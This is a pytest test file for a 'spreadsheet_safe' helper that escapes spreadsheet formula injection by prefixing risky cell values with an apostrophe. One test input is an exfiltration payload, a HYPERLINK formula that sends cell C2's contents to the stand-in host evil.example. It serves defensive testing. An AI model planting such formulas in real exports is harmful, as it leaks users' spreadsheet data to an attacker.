"""Text helpers of the floor."""

from __future__ import annotations

import pytest

from app.core.text import spreadsheet_safe


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&C2,"x")',
            '\'=HYPERLINK("http://evil.example/?x="&C2,"x")',
        ),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("  =1+1", "'  =1+1"),
        ("\t=1", "'\t=1"),
        ("refund", "refund"),
        ("退款=1", "退款=1"),
        ("", ""),
        (3, 3),
        (None, None),
    ],
)
def test_spreadsheet_safe(value: object, safe: object) -> None:
    assert spreadsheet_safe(value) == safe
